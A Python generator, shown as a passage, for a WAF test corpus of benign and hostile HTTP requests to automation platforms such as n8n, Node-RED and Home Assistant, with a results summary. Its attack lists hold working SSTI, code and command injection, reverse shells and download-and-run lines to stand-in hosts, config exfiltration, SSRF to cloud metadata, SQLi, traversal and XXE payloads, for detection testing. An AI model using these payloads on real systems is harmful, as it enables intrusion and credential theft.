#!/usr/bin/env python3
"""Held-out HTTP test corpus: workflow automation, low-code and smart-home
integration platforms.

What it is
    A deterministic generator of realistic HTTP requests against the APIs of
    workflow-automation and low-code platforms running behind a sidecar WAF:
    n8n (webhooks, REST API, workflow saves), Node-RED (http-in endpoints,
    flows), Zapier/Make-style catch hooks, Airflow and Prefect REST APIs,
    Temporal (visibility queries such as WorkflowType='X' AND ...), Retool /
    Appsmith / Budibase apps (queries whose parameters come from `{{ }}`
    bindings, JS transformers), Home Assistant (Jinja templates rendered via
    /api/template, automations saved as JSON, services, webhooks), IFTTT,
    Power Automate (`@{triggerBody()?['x']}` expressions), JSONata / JMESPath /
    jq filters, Liquid / Handlebars / Mustache templates in notification steps,
    cron expressions, json-logic rules, Typeform / Jotform webhooks, Rasa and
    Dialogflow chatbots, Airtable formulas (filterByFormula) and Google Sheets
    A1 ranges (`Sheet1!A1:C10`).  Legitimate expressions and templates are
    everywhere here, which makes it a hard false-positive test for a WAF.

    * benign       ~400 ordinary requests (expect "pass"), plus ~40
                   "dev-content" requests (category "dev-content", still
                   "pass"): users saving Function/Code node JavaScript, SQL
                   query nodes, Execute Command nodes, Drools-like rules,
                   Airflow DAG files; counted apart.
    * attacks      ~225 requests (expect "detect") with real attack payloads in
                   the domain's own injection points: SSTI through template
                   fields that should be data (Jinja, Handlebars, Nunjucks,
                   Velocity, Freemarker, EL, SpEL, Thymeleaf), code injection
                   into JS/Python function nodes, SSRF via HTTP-request nodes
                   and webhook URLs, command injection into Execute Command
                   parameters, SQLi in database-node parameters, NoSQL
                   operators, path traversal in file nodes, XXE in XML nodes,
                   Log4Shell in headers, prototype pollution, deserialization
                   (YAML tags, node-serialize, Java, pickle), CRLF in e-mail
                   nodes, LDAP filters, PHP wrappers, RFI, request smuggling.

    Written blind: without looking at the WAF's rules, its tests, or the
    payload lists of the other corpus scripts, so it measures generalisation
    rather than rule-fitting.

How to run
    python3 scripts/corpus-automation.py attacks > rulesets/tests/data/automation-attacks.jsonl
    python3 scripts/corpus-automation.py benign  > rulesets/tests/data/automation-benign.jsonl
    python3 scripts/corpus-automation.py stats      # counts per category, to stderr

Each output line is one JSON object:
    {"id", "set": "automation", "category", "expect": "detect"|"pass", "method",
     "uri" (percent-encoded as a client sends it), "version": "HTTP/1.1",
     "headers": [[name, value], ...], "body"?: str}
Ids are "automation/<category>/<generator>-NNN"; ordinary benign requests are
under "automation/benign/...", dev-content under "automation/dev-content/...".

Only the standard library is used; every generator draws from its own
random.Random seeded by name, so output is byte-for-byte reproducible.

First sight
-----------
(2026-12-05, palisade-rules at 3c2f172, binary /work/bin/pr-base, built-in rules)
Run once, nothing tuned; the corpus was not changed after seeing the results.
Counts: 258 attacks (ssti 38, rce 35, sqli 31, ssrf 30, lfi 19, generic 18,
java 15, nosqli 15, xss 14, xxe 12, crlf 10, php 6, ldapi 5, rfi 5,
protocol 5), 474 benign (434 ordinary + 40 dev-content).
(protocol/smuggle-002 carries a second, conflicting Content-Length and
protocol/smuggle-001/003 a Transfer-Encoding beside Content-Length on
purpose; every other body's Content-Length is its UTF-8 byte length.
Dev-content ids are numbered by one counter across their generators.)

PL1 (flagged = blocked at paranoia 1):
  attacks blocked   255/258 = 98.8 %  (100 % in crlf, generic, java, ldapi,
                    lfi, nosqli, php, rce, rfi, sqli, ssti, xss, xxe;
                    ssrf 28/30, protocol 4/5).  At PL2: 257/258.
  benign blocked    15/434 = 3.5 % ordinary, 19/40 = 47.5 % dev-content
                    (sql_node 12/12, exec_node 5/8, code_node 1/14, other 1/6)
PL2:
  benign blocked    94/434 = 21.7 % ordinary, 27/40 = 67.5 % dev-content
                    (mostly ssti-110 on legitimate {{ }} bindings: make_hook
                    15/15, homeassistant 14/35, retool_appsmith 8,
                    notify_templates 6, n8n_expression_params 10; sqli-2xx on
                    Temporal visibility queries 15/15 and HA templates;
                    sqli-210 on json-logic 9/15; php-170 on HA templates).

Missed at PL1 (3):
  ssrf/url-field-014             HA webhook field "feed_url" =
                                 http://localhost:8123/api/states (loopback
                                 by name, in a JSON body)
  ssrf/url-field-019             IFTTT value1 = in-cluster Vault URL
                                 http://vault.vault.svc.cluster.local:8200/...
  protocol/header-injection-004  X-Forwarded-Host carrying a raw CRLF and a
                                 second header
Ordinary benign flagged at PL1 (15):
  benign/nodered-016, -017       JSONata "$map(payload.items, function($v)
                                 {...})" in a Node-RED transform (php-113)
  benign/nodered-020             JSONata "$exists(payload.battery) and ..."
                                 (php-113)
  benign/filters-007, -017       JSONata "$count(events[... $contains(ua,
                                 'Mobile')])" (php-113)
  benign/filters-009, -015       JSONata "$sort(orders, function($l, $r)
                                 {...})" in JSON body / query arg (php-113)
  benign/retool_appsmith-002, -003, -005, -008, -010, -012, -014, -018
                                 Appsmith editor saving a REST action whose
                                 query parameter is "{{ Input1.text.trim() }}"
                                 (sqli-101 on ".trim()")
"""

import json
import random
import sys
from urllib.parse import quote, urlencode

SET = "automation"

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Home Assistant/2024.11.1",
]
BOT_UAS = [
    "axios/1.7.7", "n8n", "Zapier", "python-requests/2.32.3", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Make/production", "IFTTT-Protocol/v1", "Typeform Webhooks", "JotForm", "Go-http-client/1.1",
    "HomeAssistant/2024.11.1 aiohttp/3.10.10 Python/3.12", "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "Prefect/3.1.4 (API 0.8.4)", "Retool/2.0", "Slackbot 1.0 (+https://api.slack.com/robots)",
    "Google-Dialogflow", "Microsoft Flow", "Airtable-Automations", "curl/8.5.0",
]


def q(params):
    return urlencode(params, quote_via=quote, safe="")


def mk(rid, cat, expect, method, host, path, params=None, raw_query=None,
       body=None, ctype=None, ua=None, extra=None, rng=None, browser=False):
    uri = path
    if params:
        uri += "?" + (params if isinstance(params, str) else q(params))
    elif raw_query:
        uri += "?" + raw_query
    h = [["Host", host]]
    if ua is None:
        r = rng or random.Random(rid)
        ua = r.choice(UAS if browser else BOT_UAS)
    h.append(["User-Agent", ua])
    h.append(["Accept", "application/json, text/plain, */*"])
    if browser:
        h.append(["Accept-Language", "en-US,en;q=0.9"])
        h.append(["Accept-Encoding", "gzip, deflate, br"])
    for e in extra or []:
        h.append(list(e))
    if body is not None:
        h.append(["Content-Type", ctype or "application/json"])
        h.append(["Content-Length", str(len(body.encode("utf-8")))])
    d = {"id": rid, "set": SET, "category": cat, "expect": expect, "method": method,
         "uri": uri, "version": "HTTP/1.1", "headers": h}
    if body is not None:
        d["body"] = body
    return d


def js(o):
    return json.dumps(o, ensure_ascii=False)


def uuid(r):
    return "%08x-%04x-4%03x-%04x-%012x" % (r.getrandbits(32), r.getrandbits(16), r.getrandbits(12),
                                             0x8000 | r.getrandbits(14), r.getrandbits(48))


def hexid(r, n=24):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def alnum(r, n):
    return "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))


FIRST = ["Siobhan", "Liam", "Zoë", "Mateo", "Aisha", "Bartholomew", "Chloé", "Dmitri", "Priya", "Kwame",
         "Ingrid", "José", "Mei", "Oluwaseun", "Renée", "Tomás", "Hannah", "Yusuf", "Grace", "Nikolai"]
LAST = ["O'Connor", "D'Souza", "Nuñez", "Smith-Jones", "van der Berg", "McAllister", "Okafor", "Müller",
        "Fitzgerald", "Al-Hassan", "Nakamura", "Kowalski", "D'Angelo", "Lefèvre", "O'Neill", "Patel"]
CITIES = ["Dublin", "Austin, TX", "São Paulo", "Köln", "Portland, OR", "Lagos", "Osaka", "Montréal"]


def person(r):
    f, l = r.choice(FIRST), r.choice(LAST)
    email = (f + "." + l).lower().replace("'", "").replace(" ", "").replace("ë", "e").replace("é", "e") \
        .replace("ñ", "n").replace("ü", "u").replace("è", "e").replace("á", "a") + "@" + r.choice(
        ["gmail.com", "acme.io", "outlook.com", "example.org", "proton.me"])
    return f, l, email


# ---------------------------------------------------------------------------
# Attack injection points ("sinks"): take (rng, field, payload) -> request args
# ---------------------------------------------------------------------------

def s_n8n_json(r, f, p):
    return dict(method="POST", host="n8n.acme.io", path="/webhook/" + uuid(r),
                body=js({"event": "lead.created", "source": "website", f: p,
                         "submittedAt": "2024-11-%02dT10:%02d:00Z" % (r.randint(1, 28), r.randint(0, 59))}))


def s_n8n_get(r, f, p):
    return dict(method="GET", host="n8n.acme.io", path="/webhook/" + r.choice(["lookup", "order-status", "sync-contact", "slack-cmd"]),
                params={f: p, "ref": alnum(r, 8)})


def s_zapier_form(r, f, p):
    return dict(method="POST", host="hooks.zapier-relay.acme.io", path="/hooks/catch/%d/%s/" % (r.randint(100000, 9999999), alnum(r, 6).lower()),
                body=q({"name": r.choice(FIRST), f: p, "plan": "pro"}), ctype="application/x-www-form-urlencoded")


def s_nodered(r, f, p):
    return dict(method="POST", host="nodered.home.lan:1880", path="/api/" + r.choice(["ingest", "sensor", "notify", "device/update"]),
                body=js({"device": "esp32-" + hexid(r, 6), f: p, "ts": r.randint(1700000000, 1730000000)}))


def s_make(r, f, p):
    return dict(method="POST", host="hook.eu1.make.com", path="/" + alnum(r, 32).lower(),
                body=js({"data": {f: p, "id": r.randint(1000, 99999)}}))


def s_retool(r, f, p):
    return dict(method="POST", host="retool.acme.io", path="/api/public/%s/query" % uuid(r),
                params={"queryName": r.choice(["getCustomer", "searchOrders", "updateTicket", "fetchInvoice"])},
                body=js({"userParams": {"queryParams": {"0": p, "length": 1}, f: p}, "environment": "production"}))


def s_appsmith(r, f, p):
    return dict(method="POST", host="appsmith.acme.io", path="/api/v1/actions/execute",
                body=js({"actionId": hexid(r), "viewMode": True,
                         "params": {"Input1.text": p, "Table1.selectedRow." + f: p}}),
                extra=[["X-Requested-By", "Appsmith"]])


def s_typeform(r, f, p):
    return dict(method="POST", host="n8n.acme.io", path="/webhook/typeform-" + alnum(r, 6).lower(),
                body=js({"event_id": alnum(r, 26), "event_type": "form_response",
                         "form_response": {"form_id": alnum(r, 8), "answers": [
                             {"type": "text", "text": p, "field": {"id": alnum(r, 12), "ref": f}},
                             {"type": "email", "email": "kim@example.org", "field": {"ref": "email"}}]}}),
                extra=[["Typeform-Signature", "sha256=" + alnum(r, 43) + "="]])


def s_rasa(r, f, p):
    return dict(method="POST", host="bot.acme.io", path="/webhooks/rest/webhook",
                body=js({"sender": "user-" + hexid(r, 8), "message": p, "metadata": {f: p}}))


def s_dialogflow(r, f, p):
    return dict(method="POST", host="fulfil.acme.io", path="/dialogflow/fulfillment",
                body=js({"responseId": uuid(r), "queryResult": {"queryText": "book it", "parameters": {f: p},
                                                               "intent": {"displayName": "book.table"}}}))


def s_ifttt(r, f, p):
    return dict(method="POST", host="n8n.acme.io", path="/webhook/ifttt/" + r.choice(["door_open", "rain_alert", "new_tweet"]),
                body=js({"value1": p, "value2": f, "value3": "ifttt"}))


def s_powerauto(r, f, p):
    return dict(method="POST", host="prod-%02d.westeurope.logic.acme-flows.net" % r.randint(1, 40),
                path="/workflows/%s/triggers/manual/paths/invoke" % hexid(r, 32),
                params={"api-version": "2016-06-01", "sp": "/triggers/manual/run", "sv": "1.0", "sig": alnum(r, 43)},
                body=js({f: p, "requestedBy": "teams"}))


def s_ha_webhook(r, f, p):
    return dict(method="POST", host="ha.home.example.com:8123", path="/api/webhook/" + alnum(r, 20),
                body=js({f: p, "source": "shortcut"}))


def s_jotform(r, f, p):
    return dict(method="POST", host="n8n.acme.io", path="/webhook/jotform",
                body=q({"formID": str(r.randint(10 ** 14, 10 ** 15)), "submissionID": str(r.randint(10 ** 17, 10 ** 18)),
                        "q3_" + f: p, "q4_email": "a@b.io"}), ctype="application/x-www-form-urlencoded")


def s_prefect(r, f, p):
    return dict(method="POST", host="prefect.acme.io", path="/api/deployments/%s/create_flow_run" % uuid(r),
                body=js({"parameters": {f: p, "dry_run": False}, "tags": ["webhook"]}))


def s_airflow(r, f, p):
    return dict(method="POST", host="airflow.internal.acme.io", path="/api/v1/dags/%s/dagRuns" % r.choice(["etl_daily", "sync_crm", "export_reports"]),
                body=js({"conf": {f: p}, "note": "triggered by n8n"}),
                extra=[["Authorization", "Basic " + alnum(r, 24) + "="]])


def s_temporal(r, f, p):
    return dict(method="POST", host="temporal.acme.io", path="/api/v1/namespaces/default/workflows/%s" % ("order-" + hexid(r, 8)),
                body=js({"workflowType": {"name": "ProcessOrder"}, "taskQueue": {"name": "orders"},
                         "input": [{f: p}]}))


def s_budibase(r, f, p):
    return dict(method="POST", host="budibase.acme.io", path="/api/ta_%s/search" % hexid(r, 32),
                body=js({"query": {"string": {f: p}}, "limit": 50}), extra=[["x-budibase-app-id", "app_" + hexid(r, 32)]])


SINKS_DATA = [s_n8n_json, s_n8n_get, s_zapier_form, s_nodered, s_make, s_retool, s_appsmith, s_typeform,
              s_rasa, s_dialogflow, s_ifttt, s_powerauto, s_ha_webhook, s_jotform, s_prefect, s_airflow,
              s_temporal, s_budibase]


def build_attacks(cat, gen, payloads, fields, sinks=None):
    r = random.Random("attack-" + cat + "-" + gen)
    out = []
    for i, p in enumerate(payloads, 1):
        sink = r.choice(sinks or SINKS_DATA)
        f = r.choice(fields)
        a = sink(r, f, p)
        rid = "%s/%s/%s-%03d" % (SET, cat, gen, i)
        out.append(mk(rid, cat, "detect", a["method"], a["host"], a["path"], params=a.get("params"),
                      body=a.get("body"), ctype=a.get("ctype"), extra=a.get("extra"), rng=r))
    return out


def attacks():
    out = []
    # ---- SSTI --------------------------------------------------------------
    ssti = [
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}",
        "{{ joiner.__init__.__globals__.os.popen('uname -a').read() }}",
        "{{ namespace.__init__.__globals__.os.system('curl http://203.0.113.9/x|sh') }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ ''.__class__.__base__.__subclasses__()[132].__init__.__globals__['popen']('id').read() }}",
        "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        "{{ config.__class__.__init__.__globals__['os'].environ }}",
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
        "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
        "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}",
        "{{ states.__class__.__init__.__globals__ }}",
        "{% set x = cycler.__init__.__globals__.__builtins__ %}{{ x['eval'](\"__import__('os').popen('id').read()\") }}",
        "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
        "{{#with this as |o|}}{{lookup (lookup o.constructor 'prototype') '__proto__'}}{{/with}}",
        "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}",
        "{{ this.constructor.constructor('return process.env')() }}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }",
        "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
        "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))$x",
        "#set($rt = $x.class.forName('java.lang.Runtime'))#set($p = $rt.getRuntime().exec('whoami'))",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','id'})}",
        "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
        "${pageContext.request.getSession().getServletContext()}",
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
        "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
        "{% include '../../../../etc/passwd' %}",
        "{{ 'id' | system }}{{ ['id']|filter('system') }}",
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
        "<%= `id` %><%= system('cat /etc/passwd') %>",
        "{php}echo `id`;{/php}{system('id')}",
        "${{7*7}}{{ self.__init__.__globals__.__builtins__ }}",
        "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
    ]
    out += build_attacks("ssti", "template-field", ssti,
                         ["message", "subject", "notes", "displayName", "comment", "title", "company", "greeting"])
    # HA template through a data field, urlencoded Jinja in query
    r = random.Random("attack-ssti-query")
    for i, p in enumerate(["{{ cycler.__init__.__globals__.os.popen('id').read() }}",
                           "{{lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')()}}",
                           "${T(java.lang.Runtime).getRuntime().exec(\"id\")}"], 1):
        out.append(mk("%s/ssti/query-template-%03d" % (SET, i), "ssti", "detect", "GET", "n8n.acme.io",
                      "/webhook/greeting", raw_query="name=" + quote(p, safe="") + "&lang=en", rng=r))

    # ---- RCE: code injection + command injection -----------------------------
    code = [
        "require('child_process').execSync('id').toString()",
        "process.mainModule.require('child_process').exec('curl http://198.51.100.7/s.sh | sh')",
        "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
        "global.process.binding('spawn_sync')",
        "');require('child_process').exec('nc 203.0.113.5 4444 -e /bin/sh');//",
        "\"+require('fs').readFileSync('/etc/passwd','utf8')+\"",
        "__import__('os').system('id')",
        "__import__('subprocess').check_output(['cat','/etc/passwd'])",
        "eval(compile('import os;os.system(\"id\")','x','exec'))",
        "exec(\"import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.5',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\")",
        "1;import os;os.popen('whoami').read()",
        "Function('return this')().process.mainModule.require('child_process').execSync('ls /')",
        "new Function(\"return require('child_process').execSync('id')\")()",
        "${require('child_process').execSync('env')}",
        "$jsonata := $eval(\"process.mainModule.require('child_process').execSync('id')\")",
    ]
    out += build_attacks("rce", "code-injection", code,
                         ["transform", "value", "price", "expression", "name", "mapping", "filter", "label"])
    cmd = [
        "report.pdf; id",
        "report.pdf;cat /etc/passwd",
        "8.8.8.8 && cat /etc/shadow",
        "8.8.8.8 | nc 203.0.113.5 4444 -e /bin/bash",
        "main$(curl -s http://198.51.100.7/x.sh|sh)",
        "invoice-`id`.csv",
        "a.csv\nwget http://203.0.113.5/bot -O /tmp/b; chmod +x /tmp/b; /tmp/b",
        "x;bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "x||ping -c 10 127.0.0.1||",
        ";${IFS}cat${IFS}/etc/passwd",
        "file.txt;/bin/busybox nc 203.0.113.5 9001 -e sh",
        "data.json & powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "x.zip | cmd.exe /c whoami",
        "$(echo${IFS}aWQ=|base64${IFS}-d|sh)",
        "photo.jpg;python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
        "v1.2.3; rm -rf / --no-preserve-root",
        "backup.tar.gz; curl -d @/home/node/.n8n/config http://203.0.113.5/",
        "1.1.1.1%0aid",
        "sensor.kitchen; perl -e 'use Socket;$i=\"203.0.113.5\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"))'",
        "main && /usr/bin/id",
    ]
    out += build_attacks("rce", "exec-command", cmd,
                         ["filename", "host", "branch", "target", "archive", "version", "file", "entity"])

    # ---- SSRF --------------------------------------------------------------
    ssrf = [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://169.254.169.254/latest/user-data",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "http://[::ffff:169.254.169.254]/latest/meta-data/",
        "http://2852039166/latest/meta-data/",
        "http://0xa9fea9fe/latest/meta-data/",
        "http://0251.0376.0251.0376/latest/meta-data/",
        "http://169.254.169.254.nip.io/latest/meta-data/",
        "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
        "http://169.254.170.2/v2/credentials/",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://127.0.0.1:5678/rest/credentials",
        "http://localhost:8123/api/states",
        "http://127.1:1880/flows",
        "http://0.0.0.0:8080/actuator/env",
        "http://[::1]:2375/containers/json",
        "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
        "http://vault.vault.svc.cluster.local:8200/v1/secret/data/prod",
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
        "dict://127.0.0.1:11211/stats",
        "file:///etc/passwd",
        "file:///proc/self/environ",
        "http://attacker.example@169.254.169.254/latest/meta-data/",
        "http://169.254.169.254%2Flatest%2Fmeta-data%2F",
        "http://instance-data/latest/meta-data/",
        "ftp://127.0.0.1:21/",
        "http://metadata/computeMetadata/v1/?recursive=true",
        "http://0177.0.0.1:9090/api/v1/admin/tsdb/snapshot",
        "http://localtest.me:15672/api/users",
    ]
    out += build_attacks("ssrf", "url-field", ssrf,
                         ["url", "webhookUrl", "callback_url", "imageUrl", "avatar", "feed_url", "endpoint", "source_url"])

    # ---- SQLi --------------------------------------------------------------
    sqli = [
        "1 OR 1=1",
        "' OR '1'='1' --",
        "42' UNION SELECT username, password, null FROM users--",
        "1; DROP TABLE workflow_entity;--",
        "1' AND (SELECT 1 FROM pg_sleep(5))--",
        "1 AND SLEEP(5)",
        "x' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -",
        "1'; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.5/$(whoami)';--",
        "admin'/**/or/**/1=1#",
        "1'; WAITFOR DELAY '0:0:5'--",
        "' UNION ALL SELECT table_name,NULL FROM information_schema.tables--",
        "1 AND 1=CAST((SELECT password FROM credentials_entity LIMIT 1) AS int)",
        "name ASC, (CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)='a' THEN 1 ELSE 1/0 END)",
        "-1 UNION SELECT 1,load_file('/etc/passwd'),3",
        "1' AND BENCHMARK(5000000,MD5('a'))-- ",
        "') OR ('x'='x",
        "1)) OR 1=1 LIMIT 1 --",
        "1' ORDER BY 10--",
        "x' || (SELECT pg_read_file('/etc/passwd')) || '",
        "1; INSERT INTO users(email,role) VALUES('evil@x.io','owner');--",
        "' or 1=1 into outfile '/var/www/html/s.php'--",
        "1%27%20UNION%20SELECT%20NULL,@@version--",
        "-5 UniOn SeLeCt 1,group_concat(email),3 fRoM user--",
        "1' AND updatexml(1,concat(0x7e,user()),1)-- ",
        "'; EXEC xp_cmdshell 'whoami';--",
        "1 AND (SELECT COUNT(*) FROM sqlite_master)>0",
        "' AND 1=(SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END)--",
        "1 or sleep(5)#",
    ]
    out += build_attacks("sqli", "db-node-param", sqli,
                         ["customerId", "orderId", "sort", "status", "email", "id", "limit", "search"],
                         sinks=[s_retool, s_appsmith, s_n8n_get, s_n8n_json, s_budibase, s_nodered, s_zapier_form, s_jotform])
    # Airtable-like formula / Sheets range / Temporal query endpoints
    r = random.Random("attack-sqli-visibility")
    for i, p in enumerate(["WorkflowType='ProcessOrder' OR 1=1; DROP TABLE executions--",
                           "Status='x' UNION SELECT token FROM api_keys--",
                           "1' AND 1=(SELECT COUNT(*) FROM tabname); --"], 1):
        out.append(mk("%s/sqli/visibility-query-%03d" % (SET, i), "sqli", "detect", "GET", "temporal.acme.io",
                      "/api/v1/namespaces/default/workflows", params={"query": p, "pageSize": "20"}, rng=r, browser=True))

    # ---- NoSQLi ------------------------------------------------------------
    r = random.Random("attack-nosqli")
    nos = [
        ("json", {"username": "admin", "password": {"$ne": None}}),
        ("json", {"filter": {"email": {"$regex": ".*"}, "role": {"$ne": "guest"}}}),
        ("json", {"query": {"$where": "sleep(5000) || true"}}),
        ("json", {"filter": {"$where": "this.password.match(/^a/)"}}),
        ("json", {"filter": {"apiKey": {"$gt": ""}}}),
        ("json", {"selector": {"_id": {"$gt": None}}, "limit": 1000}),
        ("json", {"pipeline": [{"$lookup": {"from": "credentials", "localField": "a", "foreignField": "b", "as": "c"}}]}),
        ("json", {"filter": {"$expr": {"$function": {"body": "function(){return sleep(5000)}", "args": [], "lang": "js"}}}}),
        ("json", {"user": {"$in": ["admin", "root"]}, "token": {"$exists": True}}),
        ("json", {"filter": {"$or": [{"a": 1}, {"password": {"$regex": "^p"}}]}}),
        ("query", "username[$ne]=x&password[$ne]=x"),
        ("query", "filter[email][$regex]=.*&filter[role][$nin][]=guest"),
        ("query", "where=%7B%22%24where%22%3A%22this.isAdmin%20%3D%3D%20true%22%7D"),
        ("query", "token[$gt]=&id=1"),
        ("query", "q=%7B%22password%22%3A%7B%22%24regex%22%3A%22%5Ea%22%7D%7D"),
    ]
    for i, (kind, p) in enumerate(nos, 1):
        rid = "%s/nosqli/filter-%03d" % (SET, i)
        if kind == "json":
            host, path = r.choice([("budibase.acme.io", "/api/public/v1/tables/ta_users/rows/search"),
                                   ("n8n.acme.io", "/webhook/login"), ("appsmith.acme.io", "/api/v1/datasources/mongo/query"),
                                   ("nodered.home.lan:1880", "/api/users/find")])
            out.append(mk(rid, "nosqli", "detect", "POST", host, path, body=js(p), rng=r))
        else:
            out.append(mk(rid, "nosqli", "detect", "GET", r.choice(["n8n.acme.io", "retool.acme.io"]),
                          r.choice(["/webhook/users", "/api/records"]), raw_query=p, rng=r))

    # ---- LFI ---------------------------------------------------------------
    lfi = [
        "../../../../etc/passwd",
        "..%2f..%2f..%2f..%2fetc%2fpasswd",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow",
        "....//....//....//etc/passwd",
        "/proc/self/environ",
        "..\\..\\..\\..\\windows\\win.ini",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "../../../../home/node/.n8n/config",
        "/data/../../../root/.ssh/id_rsa",
        "..%252f..%252f..%252fetc%252fpasswd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "reports/../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
        "../../config/secrets.yaml",
        "/etc/passwd%00.csv",
        "..;/..;/..;/etc/passwd",
        "/var/lib/docker/../../../etc/hosts",
    ]
    r = random.Random("attack-lfi")
    for i, p in enumerate(lfi, 1):
        rid = "%s/lfi/file-node-%03d" % (SET, i)
        mode = i % 3
        if mode == 0:
            out.append(mk(rid, "lfi", "detect", "POST", r.choice(["n8n.acme.io", "nodered.home.lan:1880"]),
                          "/webhook/" + r.choice(["export", "read-file", "attachments"]),
                          body=js({"filePath": p, "format": "csv"}), rng=r))
        elif mode == 1:
            qs = "path=" + (p if "%" in p else quote(p, safe="")) + "&download=true"
            out.append(mk(rid, "lfi", "detect", "GET", r.choice(["nodered.home.lan:1880", "n8n.acme.io", "budibase.acme.io"]),
                          r.choice(["/api/files", "/webhook/download", "/files/read"]), raw_query=qs, rng=r))
        else:
            out.append(mk(rid, "lfi", "detect", "POST", "ha.home.example.com:8123", "/api/services/camera/snapshot",
                          body=js({"entity_id": "camera.front_door", "filename": p}), rng=r,
                          extra=[["Authorization", "Bearer " + alnum(r, 40)]]))
    # traversal in the path itself
    for i, pth in enumerate(["/local/..%2f..%2f..%2f..%2fetc%2fpasswd", "/api/files/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
                             "/static/..%5c..%5c..%5cwindows%5cwin.ini"], 1):
        out.append(mk("%s/lfi/path-%03d" % (SET, i), "lfi", "detect", "GET", r.choice(["ha.home.example.com:8123", "nodered.home.lan:1880"]),
                      pth, rng=r, browser=True))

    # ---- XXE ---------------------------------------------------------------
    xxe = [
        '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><order><id>&xxe;</id></order>',
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % ext SYSTEM "http://203.0.113.5/evil.dtd"> %ext;]><r/>',
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><foo>&x;</foo>',
        '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><!DOCTYPE s [<!ENTITY f SYSTEM "file:///home/node/.n8n/config">]><soap:Body><GetStatus>&f;</GetStatus></soap:Body></soap:Envelope>',
        '<?xml version="1.0"?><invoice xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></invoice>',
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>',
